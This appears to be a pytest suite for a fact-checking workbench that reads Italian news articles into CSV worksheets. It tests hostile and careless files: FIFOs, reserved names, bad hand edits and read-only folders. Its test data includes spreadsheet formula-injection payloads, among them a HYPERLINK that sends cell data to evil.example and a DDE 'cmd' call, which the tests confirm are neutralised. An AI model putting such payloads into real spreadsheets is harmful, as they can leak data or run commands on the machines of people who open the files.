"""Hostile and careless files: what a checker (or an attacker) may leave in the files the
workbench reads, and what the workbench must do about it.

- two different articles must never share a worksheet (article ids, and ``Worksheet.open``
  refusing an article other than the one the worksheet holds);
- Windows' reserved device names never become a worksheet's name;
- a worksheet cell never runs as a spreadsheet formula, and still round-trips exactly;
- a FIFO, a device or a folder is never read as a worksheet (it would block forever);
- hand edits that pass a quick look but break the tool are reported by file, row and column;
- reading and exporting never need write access to the worksheet's folder;
- a worksheet path with NUL or a name too long for the file system is a clear error.

Real files, real subprocesses for ``verify export``, a real unprivileged user for the
read-only folder.
"""

from __future__ import annotations

import csv
import io
import json
import os
import shutil
import subprocess
import sys
import tempfile
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from verify import SEED_ARTICLE, Worksheet, load_article
from verify.reading.articles import article_id_for
from verify.errors import SourceError, VerifyError, WorksheetError
from verify.records.store import Table, WORKSHEET_COLUMNS, read_worksheet, write_table

from report_data import seed_worksheet

WORKSHEET = "claims/putin-kim-2024-it.csv"
STORY_A = """\
Home
Sanità, il governo stanzia 3 miliardi per gli ospedali del Sud
Il Consiglio dei ministri ha approvato ieri un piano da 3 miliardi di euro per 40 ospedali.
Il ministro ha detto che i lavori cominceranno entro 6 mesi.
"""
STORY_B = """\
Home
Scuola, 20.000 nuovi insegnanti dal prossimo settembre
Il ministero dell'Istruzione assumerà più di 20.000 docenti, ha annunciato il ministro.
Le domande si potranno presentare per 30 giorni a partire da lunedì.
"""


def _verify(*args: str, cwd: Path, user: str | None = None,
            timeout: float = 120) -> subprocess.CompletedProcess:
    command = [sys.executable, "-m", "verify", *args]
    if user:
        command = ["setpriv", f"--reuid={user}", "--regid=nogroup", "--clear-groups", *command]
    return subprocess.run(command, cwd=cwd, capture_output=True, text=True, timeout=timeout)


def _hand_edit(path: Path, row: int, column: str, value: str) -> None:
    """Put ``value`` in ``column`` of spreadsheet row ``row`` (the header is row 1)."""
    table = list(csv.reader(io.StringIO(path.read_text(encoding="utf-8"), newline="")))
    table[row - 1][table[0].index(column)] = value
    buffer = io.StringIO()
    csv.writer(buffer, lineterminator="\r\n").writerows(table)
    path.write_text(buffer.getvalue(), encoding="utf-8")


def _raw_rows(path: Path) -> list[dict[str, str]]:
    with open(path, encoding="utf-8", newline="") as f:
        return list(csv.DictReader(f))


def _listing(folder: Path) -> dict[str, tuple]:
    return {str(p.relative_to(folder)): (p.stat().st_ino, p.stat().st_size, p.stat().st_mtime_ns)
            for p in sorted(folder.rglob("*"))}


@pytest.fixture(scope="module")
def seed_folder(tmp_path_factory) -> Path:
    """A project with the seed's worksheet (verdicts, evidence links, a registry) to copy."""
    folder = tmp_path_factory.mktemp("seed-project")
    seed_worksheet(folder)
    return folder


@pytest.fixture
def project(seed_folder, tmp_path) -> Path:
    shutil.copytree(seed_folder, tmp_path / "project")
    return tmp_path / "project"


# --- point 3: two articles, one worksheet -----------------------------------------------------

def test_two_pasted_texts_with_the_same_first_line_get_their_own_ids():
    a, b = load_article(text=STORY_A), load_article(text=STORY_B)
    assert a.article_id != b.article_id
    # a correction deep in the text keeps the id (its worksheet must survive a fixed typo)
    corrected = STORY_A.replace("entro 6 mesi", "entro sei mesi")
    assert load_article(text=corrected).article_id == a.article_id
    assert load_article(text="\n  " + STORY_A).article_id == a.article_id


def test_two_saved_index_pages_from_different_folders_get_their_own_ids(tmp_path):
    ids = set()
    for folder, story in (("sanita-ospedali", STORY_A), ("scuola-insegnanti", STORY_B)):
        page = tmp_path / "Downloads" / folder / "index.html"
        page.parent.mkdir(parents=True)
        page.write_text(f"<html><body><article>{story.replace(chr(10), '<p>')}</article>"
                        "</body></html>", encoding="utf-8")
        article = load_article(page)
        assert folder in article.article_id
        ids.add(article.article_id)
    assert len(ids) == 2
    # a name that says what the article is keeps being the id alone
    assert article_id_for(tmp_path / "x" / "putin-kim-2024.it.txt") == "putin-kim-2024-it"
    assert article_id_for(tmp_path / "ospedali" / "Untitled (2).txt") == "ospedali-untitled-2"


def test_the_second_pasted_home_article_gets_its_own_worksheet(tmp_path):
    claims = tmp_path / "claims"
    claims.mkdir()
    first = Worksheet.open(claims, article=load_article(text=STORY_A))
    first.set_verdict(first.claims[0].claim_id, "true", rationale="checked", checker="Anna")
    saved = first.path.read_bytes(), first.path.with_suffix(".meta.json").read_bytes()

    second = Worksheet.open(claims, article=load_article(text=STORY_B))
    assert second.path != first.path
    assert (first.path.read_bytes(), first.path.with_suffix(".meta.json").read_bytes()) == saved
    again = Worksheet.open(first.path)
    assert again.verdict(first.claims[0].claim_id).label == "true"
    assert again.orphans == [] and "Sanità" in again.article.text


def test_opening_a_worksheet_with_another_article_of_the_same_id_refuses(tmp_path):
    """The same file name, overwritten with another article: the id cannot tell them apart,
    the worksheet's saved article can."""
    story = tmp_path / "story.txt"
    story.write_text(STORY_A, encoding="utf-8")
    (tmp_path / "claims").mkdir()
    ws = Worksheet.open(tmp_path / "claims", article=story)
    ws.set_verdict(ws.claims[0].claim_id, "false", rationale="wrong", checker="Anna")
    files = {p: p.read_bytes() for p in (tmp_path / "claims").iterdir()}

    story.write_text(STORY_B, encoding="utf-8")
    with pytest.raises(WorksheetError) as err:
        Worksheet.open(tmp_path / "claims", article=story)
    message = str(err.value)
    assert "Sanità, il governo stanzia 3 miliardi" in message       # the article it holds
    assert "Scuola, 20.000 nuovi insegnanti" in message              # the one given
    assert "replace_article=True" in message and str(ws.path) in message
    assert {p: p.read_bytes() for p in (tmp_path / "claims").iterdir()} == files

    # the explicit choice: take the new article, keep the old verdict as an orphan
    replaced = Worksheet.open(tmp_path / "claims", article=story, replace_article=True)
    assert [v.rationale for v in replaced.orphans] == ["wrong"]
    assert "Scuola" in replaced.article.text


def test_another_pasted_article_on_an_explicit_path_refuses_naming_both(tmp_path):
    path = tmp_path / "mine.csv"
    ws = Worksheet.open(path, article=load_article(text=STORY_A))
    ws.set_verdict(ws.claims[0].claim_id, "true", checker="Anna")
    before = path.read_bytes()
    with pytest.raises(WorksheetError) as err:
        Worksheet.open(path, article=load_article(text=STORY_B))
    assert "Sanità" in str(err.value) and "Scuola" in str(err.value)
    assert path.read_bytes() == before


def test_a_corrected_article_keeps_merging_into_its_worksheet(tmp_path):
    story = tmp_path / "putin-kim-2024.it.txt"
    text = SEED_ARTICLE.read_text(encoding="utf-8")
    story.write_text(text, encoding="utf-8")
    (tmp_path / "claims").mkdir()
    ws = Worksheet.open(tmp_path / "claims", article=story)
    checked = [c.claim_id for c in ws.claims[:3]]
    for claim_id in checked:
        ws.set_verdict(claim_id, "true", checker="Anna")
    # a typo fixed, a paragraph dropped, a sentence added: the same article, corrected
    paragraphs = text.split("\n")
    corrected = "\n".join(paragraphs[:-3]).replace("Pyongyang", "Pyongyang,", 1)
    story.write_text(corrected + "\nAggiornamento: 2 nuove dichiarazioni.\n", encoding="utf-8")
    again = Worksheet.open(tmp_path / "claims", article=story)
    assert again.path == ws.path
    assert all(again.verdict(c) is not None for c in checked)


def test_the_seed_worksheet_keeps_opening_on_the_seed(project):
    ws = Worksheet.open(project / WORKSHEET, article=SEED_ARTICLE)
    assert ws.progress()[0] == 5 and ws.orphans == []


def test_a_worksheet_from_an_older_id_of_the_same_article_is_taken_in(tmp_path):
    """Worksheets of pasted text saved before the id took in the body have another id: the
    saved article text says it is the same article, so it merges (and takes the new id)."""
    path = tmp_path / "pasted.csv"
    article = load_article(text=STORY_A)
    ws = Worksheet.open(path, article=article)
    ws.set_verdict(ws.claims[0].claim_id, "true", checker="Anna")
    path.write_text(path.read_text(encoding="utf-8").replace(article.article_id,
                                                             "text-0123456789"),
                    encoding="utf-8")
    again = Worksheet.open(path, article=article)
    assert again.verdict(ws.claims[0].claim_id).label == "true"
    assert {r["article_id"] for r in _raw_rows(path)} == {article.article_id}


# --- point 17: Windows' reserved names --------------------------------------------------------

@pytest.mark.parametrize("name", ["CON.txt", "con.txt", "nul", "NUL.md", "com1.txt", "LPT1.txt",
                                  "aux.html", "prn.txt", "com0.txt", "COM9.txt", "lpt0.txt",
                                  "Lpt9.TXT"])
def test_windows_reserved_names_never_name_a_worksheet(tmp_path, name):
    article = tmp_path / "articles" / name
    article.parent.mkdir()
    article.write_text(STORY_A, encoding="utf-8")
    (tmp_path / "claims").mkdir()
    ws = Worksheet.open(tmp_path / "claims", article=article)
    stem = ws.path.name.split(".")[0].casefold()
    reserved = {"con", "prn", "aux", "nul", *(f"com{i}" for i in range(10)),
                *(f"lpt{i}" for i in range(10))}
    assert stem not in reserved
    assert ws.path.name == f"{name.split('.')[0].casefold()}-article.csv"


# --- point 8: spreadsheets, FIFOs -------------------------------------------------------------

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0",
            "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1", " =1+1", "'=1+1", "'", "''-1", "'plain"]


def test_no_worksheet_cell_runs_as_a_formula_and_every_cell_reads_back(tmp_path):
    article = tmp_path / "formule.txt"
    article.write_text("=SUM(A1) Il governo ha stanziato 5 miliardi di euro.\n"
                       "-3 per cento: il calo del PIL nel 2023, secondo l'Istat.\n"
                       "'Ndrangheta, sequestrati 12 milioni di euro a Reggio Calabria.\n",
                       encoding="utf-8")
    path = tmp_path / "claims" / "formule.csv"
    ws = Worksheet.open(path, article=article)
    for claim, rationale in zip(ws.claims, FORMULAS * 3):
        ws.set_verdict(claim.claim_id, "false", rationale=rationale, checker="@Anna",
                       sources="=1+2")
    raw = _raw_rows(path)
    for row in raw:
        for column, cell in row.items():
            assert not cell.startswith(("=", "+", "@", "\t", "\r")), (column, cell)
            if cell.startswith("-"):
                float(cell)  # only a plain number may start with a minus
    again = Worksheet.open(path)
    text = again.article.text
    for claim in again.claims:
        assert text[claim.start:claim.end] == claim.text
        assert text[claim.sentence_start:claim.sentence_end] == claim.sentence
    assert again.claims == ws.claims
    for claim, rationale in zip(ws.claims, FORMULAS * 3):
        verdict = again.verdict(claim.claim_id)
        assert (verdict.rationale, verdict.checker, verdict.sources) == (
            rationale, "@Anna", "=1+2")


any_cell = st.text(st.sampled_from("'=+-@ \t\r\n\",x1.é\u00a0\uff1d"), max_size=8)


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(cells=st.lists(any_cell, min_size=3, max_size=3))
def test_any_cell_round_trips_exactly_through_the_worksheet_file(tmp_path, cells):
    path = tmp_path / "round.csv"
    header = list(WORKSHEET_COLUMNS) + ["note di Anna"]
    row = dict.fromkeys(header, "")
    row.update({"claim_id": "c-1", "start": "0", "end": "1", "text": cells[0],
                "rationale": cells[1], "note di Anna": cells[2]})
    write_table(path, Table(header, {"c-1": row}))
    assert read_worksheet(path, ("not checked",)).rows["c-1"] == row


def test_a_fifo_given_as_a_worksheet_is_refused_not_waited_on(tmp_path):
    os.mkfifo(tmp_path / "pipe.csv")
    done = _verify("export", "pipe.csv", "--format", "html", cwd=tmp_path, timeout=30)
    assert done.returncode == 1
    assert "pipe.csv" in done.stderr and "not a regular file" in done.stderr
    with pytest.raises(WorksheetError, match="not a regular file"):
        Worksheet.open(tmp_path / "pipe.csv", article=SEED_ARTICLE)
    done = _verify("export", "/dev/null", "--format", "html", cwd=tmp_path, timeout=30)
    assert done.returncode == 1 and "/dev/null: not a regular file" in done.stderr, done.stderr


def test_a_fifo_in_place_of_a_sidecar_is_refused_not_waited_on(project):
    meta = project / "claims" / "putin-kim-2024-it.meta.json"
    meta.unlink()
    os.mkfifo(meta)
    done = _verify("export", WORKSHEET, "--format", "html", cwd=project, timeout=30)
    assert done.returncode == 1
    assert "putin-kim-2024-it.meta.json" in done.stderr and "not a regular file" in done.stderr


# --- point 13: hand edits that pass a first look ----------------------------------------------

@pytest.mark.parametrize("file, row, column, value", [
    (WORKSHEET, 3, "start", "--5"),
    (WORKSHEET, 3, "start", "²"),
    (WORKSHEET, 3, "end", "9" * 5000),
    (WORKSHEET, 4, "sentence_start", "٣"),
    ("claims/putin-kim-2024-it.evidence.csv", 2, "start", "²"),
    ("claims/putin-kim-2024-it.evidence.csv", 3, "end", "1" * 5000),
])
def test_a_bad_number_typed_by_hand_is_named_by_verify_export(project, file, row, column,
                                                              value):
    _hand_edit(project / file, row, column, value)
    done = _verify("export", WORKSHEET, "--format", "html", cwd=project)
    assert done.returncode == 1, done.stderr
    assert "Traceback" not in done.stderr and done.stdout == ""
    [line] = done.stderr.strip().splitlines()
    assert f"{file}: row {row}" in line and f"column '{column}'" in line, line


@pytest.mark.parametrize("meta", [{"scale": 5}, {"scale": "true"}, {"scale": [1, 2]},
                                  {"article": {"text": "x", "warnings": 5}}, [1, 2], "x",
                                  {"article": 7}, {"article": {"title": "\ud800 Putin"}},
                                  {"scale": ["true", "\udfff"]},
                                  pytest.param("[" * 100_000, id="nested-100000-deep")])
def test_a_broken_meta_json_is_named_by_verify_export(project, meta):
    path = project / "claims" / "putin-kim-2024-it.meta.json"
    path.write_text(meta if isinstance(meta, str) and meta.startswith("[") else json.dumps(meta),
                    encoding="utf-8")
    done = _verify("export", WORKSHEET, "--format", "html", cwd=project)
    assert done.returncode == 1, done.stderr
    assert "Traceback" not in done.stderr
    [line] = done.stderr.strip().splitlines()
    assert "putin-kim-2024-it.meta.json" in line and "delete the file" in line, line


def _pasted_row(project: Path) -> int:
    rows = _raw_rows(project / "sources" / "registry.csv")
    return next(i for i, r in enumerate(rows, start=2) if r["text_path"])


@pytest.mark.parametrize("column, value", [
    ("http_status", "²"), ("http_status", "2" * 5000), ("text_path", "snapshots/a\0b.txt"),
    ("snapshot_path", "snapshots/\0"), ("text_path", "snapshots")])
def test_a_broken_registry_row_is_named_by_file_row_and_column(project, column, value):
    row = _pasted_row(project)
    _hand_edit(project / "sources" / "registry.csv", row, column, value)
    source_id = _raw_rows(project / "sources" / "registry.csv")[row - 2]["source_id"]
    ws = Worksheet.open(project / WORKSHEET)
    with pytest.raises(SourceError) as err:
        ws.suggest_evidence(ws.claims[0].claim_id)  # reads the registry (and skips bad texts)
        ws.sources.text(source_id)                  # reads the source's text
    message = str(err.value)
    assert "registry.csv" in message and f"row {row}" in message, message
    assert f"column '{column}'" in message or "'text_path'" in message, message


# --- point 16: a read-only folder ---------------------------------------------------------------

@pytest.fixture
def shared_project(seed_folder):
    """The seed project in a folder only root can write, readable by everyone."""
    folder = Path(tempfile.mkdtemp(prefix="verify-readonly-", dir="/tmp"))
    shutil.copytree(seed_folder, folder / "project")
    for path in [folder, *folder.rglob("*")]:
        path.chmod(0o755 if path.is_dir() else 0o644)
    yield folder / "project"
    shutil.rmtree(folder)


@pytest.mark.parametrize("lock", ["missing", "there"])
def test_verify_export_in_a_folder_the_user_cannot_write(shared_project, lock):
    if lock == "missing":
        (shared_project / "claims" / "putin-kim-2024-it.lock").unlink()
    before = _listing(shared_project)
    done = _verify("export", WORKSHEET, "--format", "html", cwd=shared_project, user="nobody")
    assert done.returncode == 0, done.stderr
    assert "più di 10.000 container" in done.stdout
    assert _listing(shared_project) == before


def test_exporting_writes_nothing_beside_the_worksheet(project):
    (project / "claims" / "putin-kim-2024-it.lock").unlink()
    before = _listing(project)
    done = _verify("export", WORKSHEET, "--format", "csv", cwd=project)
    assert done.returncode == 0, done.stderr
    assert _listing(project) == before


def test_a_read_only_worksheet_refuses_to_save(project):
    ws = Worksheet.open(project / WORKSHEET, read_only=True)
    before = _listing(project)
    with pytest.raises(WorksheetError, match="opened read-only"):
        ws.set_verdict(ws.claims[0].claim_id, "false")
    assert _listing(project) == before


def test_resuming_a_worksheet_in_a_folder_the_user_cannot_write_reads_it(shared_project):
    """The editor's review (notebook 02) and merge_worksheets resume worksheets to read them:
    in a shared folder they may not write, that works, and a change is refused in words."""
    (shared_project / "claims" / "putin-kim-2024-it.lock").unlink()
    before = _listing(shared_project)
    script = ("import sys\n"
              "from verify import Worksheet\n"
              "from verify.errors import WorksheetError\n"
              f"ws = Worksheet.open({WORKSHEET!r})\n"
              "print(ws.progress())\n"
              "try:\n"
              "    ws.set_verdict(ws.claims[0].claim_id, 'false')\n"
              "except WorksheetError as err:\n"
              "    print(err)\n")
    done = subprocess.run(["setpriv", "--reuid=nobody", "--regid=nogroup", "--clear-groups",
                           sys.executable, "-c", script], cwd=shared_project,
                          capture_output=True, text=True, timeout=120)
    assert done.returncode == 0, done.stderr
    progress, refusal = done.stdout.strip().splitlines()
    assert progress.startswith("(5, ")
    assert "opened read-only" in refusal and "not writable" in refusal
    assert _listing(shared_project) == before


# --- point 15: paths the file system cannot take -------------------------------------------------

def test_a_nul_in_the_worksheet_path_is_a_clear_error(tmp_path):
    with pytest.raises(WorksheetError, match="NUL"):
        Worksheet.open(tmp_path / "claims\0" / "x.csv", article=SEED_ARTICLE)
    with pytest.raises(WorksheetError, match="NUL"):
        Worksheet.open(str(tmp_path / "x\0.csv"))


@pytest.mark.parametrize("length", [250, 300])
def test_a_worksheet_name_too_long_for_the_file_system_is_a_clear_error(tmp_path, length):
    path = tmp_path / ("n" * (length - 4) + ".csv")
    with pytest.raises(WorksheetError) as err:
        Worksheet.open(path, article=SEED_ARTICLE)
    assert "too long" in str(err.value) and "bytes" in str(err.value)
    assert list(tmp_path.iterdir()) == []


SITE_MENU = "Home\nPolitica\nEconomia\nSport\nCultura\nMeteo\n"
SITE_FOOTER = ("\nIl Quotidiano del Sud, testata registrata presso il tribunale di Cosenza n. 12 "
               "del 1999, partita IVA 01234567890, tutti i diritti riservati.\n"
               "Iscriviti alla nostra newsletter per ricevere ogni mattina le 10 notizie più lette "
               "del giorno direttamente nella tua casella di posta.\n"
               "Pubblicità, contatti, redazione, privacy e cookie policy.\n")


def test_two_stories_of_one_site_with_the_same_menu_and_footer_stay_apart(tmp_path):
    story_a = SITE_MENU + STORY_A.removeprefix("Home\n") + SITE_FOOTER
    story_b = SITE_MENU + STORY_B.removeprefix("Home\n") + SITE_FOOTER
    path = tmp_path / "pasted.csv"
    ws = Worksheet.open(path, article=load_article(text=story_a))
    ws.set_verdict(ws.claims[0].claim_id, "true", checker="Anna")
    before = path.read_bytes()
    with pytest.raises(WorksheetError, match="replace_article=True"):
        Worksheet.open(path, article=load_article(text=story_b))
    assert path.read_bytes() == before
    # the same story re-pasted without the footer is the same article
    again = Worksheet.open(path, article=load_article(text=story_a.replace(SITE_FOOTER, "\n")))
    assert again.verdict(ws.claims[0].claim_id).label == "true"


def test_a_hostile_source_never_runs_in_the_registry_or_the_evidence_file(tmp_path):
    """Titles and passages come from pages anyone can write: their CSV cells are marked too,
    and read back exactly."""
    article = tmp_path / "missili.txt"
    article.write_text("Vertice a Roma\nSono stati lanciati più di 10 missili contro Odessa.\n",
                       encoding="utf-8")
    (tmp_path / "claims").mkdir()
    ws = Worksheet.open(tmp_path / "claims", article=article, sources=tmp_path / "sources")
    passage_text = "=HYPERLINK(\"http://evil.example\",\"more than 10 missiles were launched\")"
    title = "+cmd|' /C calc'!A0"
    source = ws.add_source(text=passage_text, url="https://example.org/a", title=title)
    claim = ws.claims[0]
    passage = ws.suggest_evidence(claim.claim_id, source_ids=[source.source_id])[0]
    ws.link_evidence(claim.claim_id, passage, "supports", checker="@Anna", note="-1+1")
    for path in (tmp_path / "sources" / "registry.csv", ws.evidence_path):
        for row in _raw_rows(path):
            for column, cell in row.items():
                assert not cell.startswith(("=", "+", "-", "@")), (path.name, column, cell)
    again = Worksheet.open(ws.path)
    [link] = again.evidence(claim.claim_id)
    assert (link.passage, link.checker, link.note) == (passage.text, "@Anna", "-1+1")
    assert again.sources.get(source.source_id).title == title
    assert again.sources.text(source.source_id) == passage_text


@pytest.mark.parametrize("path", [b"claims/x.csv", 42, None, ["claims", "x.csv"]])
def test_a_worksheet_path_that_is_no_path_is_a_clear_error(path):
    with pytest.raises(WorksheetError, match="not a path: give a str or Path"):
        Worksheet.open(path, article=SEED_ARTICLE)


# --- a FIFO or device where a worksheet's files, a scale or a snapshot should be -----------------

def _in_a_child(code: str, timeout: float = 60):
    """Run ``code`` in a child Python: a read that blocks on a FIFO then fails the test by its
    time-out instead of hanging the whole suite."""
    import subprocess
    import sys
    import textwrap

    return subprocess.run([sys.executable, "-c", textwrap.dedent(code)], capture_output=True,
                          text=True, timeout=timeout)


@pytest.mark.parametrize("beside", [".log.jsonl", ".lock"])
def test_a_fifo_beside_a_worksheet_is_refused_in_words(tmp_path, beside):
    folder = tmp_path / "claims"
    folder.mkdir()
    path = folder / "short.csv"
    done = _in_a_child(f"""
        from verify import Worksheet, load_article
        ws = Worksheet.open({str(path)!r}, article=load_article(text="Sono arrivati più di 10.000 container a Rostov, ha detto il ministro.", lang="it"))
        ws.set_verdict(ws.claims[0].claim_id, "true", checker="Anna")
        """)
    assert done.returncode == 0, done.stderr
    sidecar = path.with_name(path.stem + beside)
    sidecar.unlink()
    os.mkfifo(sidecar)
    done = _in_a_child(f"""
        from verify import Worksheet, VerifyError
        try:
            Worksheet.open({str(path)!r}).set_verdict(Worksheet.open({str(path)!r}).claims[0].claim_id, "false", checker="Anna")
        except VerifyError as err:
            print("refused:", err)
        """)
    assert done.returncode == 0 and "Traceback" not in done.stderr, done.stderr
    assert "refused:" in done.stdout and sidecar.name in done.stdout, done.stdout
    assert "FIFO" in done.stdout, done.stdout


def test_a_fifo_given_as_a_scale_file_is_refused(tmp_path):
    fifo = tmp_path / "scale.csv"
    os.mkfifo(fifo)
    done = _in_a_child(f"""
        from verify import VerifyError, load_scale
        try:
            load_scale({str(fifo)!r})
        except VerifyError as err:
            print("refused:", err)
        """)
    assert done.returncode == 0, done.stderr
    assert "refused:" in done.stdout and "FIFO" in done.stdout, done.stdout


def test_a_fifo_in_place_of_a_snapshot_is_refused(tmp_path):
    folder = tmp_path / "sources"
    done = _in_a_child(f"""
        from verify import SourceRegistry
        source = SourceRegistry.open({str(folder)!r}).add_text("Più di 10.000 container.", title="note")
        print(source.text_path)
        """)
    assert done.returncode == 0, done.stderr
    snapshot = folder / done.stdout.strip().splitlines()[-1]
    snapshot.unlink()
    os.mkfifo(snapshot)
    done = _in_a_child(f"""
        from verify import SourceRegistry, VerifyError
        try:
            SourceRegistry.open({str(folder)!r}).add_text("Più di 10.000 container.", title="note")
            print("added again")
        except VerifyError as err:
            print("refused:", err)
        """)
    assert done.returncode == 0 and "Traceback" not in done.stderr, done.stderr
    assert "refused:" in done.stdout and "FIFO" in done.stdout, done.stdout


def test_a_scale_or_a_limit_of_the_wrong_type_is_named(tmp_path):
    from verify import Worksheet, load_article
    from verify.errors import WorksheetError

    article = load_article(text="Sono arrivati più di 10.000 container a Rostov, ha detto il "
                                "ministro.", lang="it")
    with pytest.raises(WorksheetError, match=r"scale=5 is int; give a list of verdict labels"):
        Worksheet.open(tmp_path / "a.csv", article=article, scale=5)
    ws = Worksheet.open(tmp_path / "a.csv", article=article)
    for limit in ("5", -1, 2.5, True):
        with pytest.raises(WorksheetError, match=r"limit=.*whole number, 0 or more"):
            ws.suggest_evidence(ws.claims[0].claim_id, limit=limit)
    assert isinstance(ws.suggest_evidence(ws.claims[0].claim_id, limit=3), list)


# --- an upgrade never hides a worksheet behind a new id --------------------------------------------

HOME_STORY = ("Home\nNews\nIl ministero ha confermato che sono arrivati più di 10.000 container "
              "a Rostov nel 2023.\nLa cifra è stata contestata da Seul, che parla di 6.700 "
              "container.\n")
OTHER_HOME_STORY = ("Home\nNews\nIl consiglio comunale ha approvato un bilancio di 4 milioni di "
                    "euro per le scuole.\nL'opposizione ha votato contro la delibera.\n")


def _worksheet_of_an_earlier_version(folder: Path, article) -> Path:
    """A worksheet with one verdict, saved where an earlier verify named it."""
    from verify import Worksheet
    from verify.reading.articles import earlier_article_ids

    (earlier,) = earlier_article_ids(article)
    ws = Worksheet.open(folder / f"{earlier}.csv", article=article)
    ws.set_verdict(ws.claims[0].claim_id, "mostly true", rationale="rounded", checker="Anna")
    return ws.path


def test_a_pasted_texts_worksheet_under_its_earlier_id_is_found(tmp_path):
    from verify import Worksheet, load_article
    from verify.ui.workbench import default_worksheet_path

    article = load_article(text=HOME_STORY, lang="it")
    earlier = _worksheet_of_an_earlier_version(tmp_path / "claims", article)
    assert earlier.name != f"{article.article_id}.csv"
    assert default_worksheet_path(article, root=tmp_path) == earlier
    resumed = Worksheet.open(tmp_path / "claims", article=article)
    assert resumed.path == earlier and resumed.progress()[0] == 1
    # another article with the same first line does not take it over: it gets its own
    other = load_article(text=OTHER_HOME_STORY, lang="it")
    assert default_worksheet_path(other, root=tmp_path).name == f"{other.article_id}.csv"
    assert Worksheet.open(tmp_path / "claims", article=other).progress()[0] == 0
    assert Worksheet.open(earlier).progress()[0] == 1


def test_a_saved_index_pages_worksheet_under_its_earlier_id_is_found(tmp_path):
    from verify import load_article
    from verify.ui.workbench import default_worksheet_path

    page = tmp_path / "saved" / "sanita" / "index.html"
    page.parent.mkdir(parents=True)
    page.write_text("<html><body><article><h1>Ospedali</h1><p>" + HOME_STORY.split("\n")[2] +
                    "</p></article></body></html>", encoding="utf-8")
    article = load_article(str(page))
    earlier = _worksheet_of_an_earlier_version(tmp_path / "claims", article)
    assert earlier.name == "index.csv" and article.article_id == "sanita-index"
    assert default_worksheet_path(article, root=tmp_path) == earlier
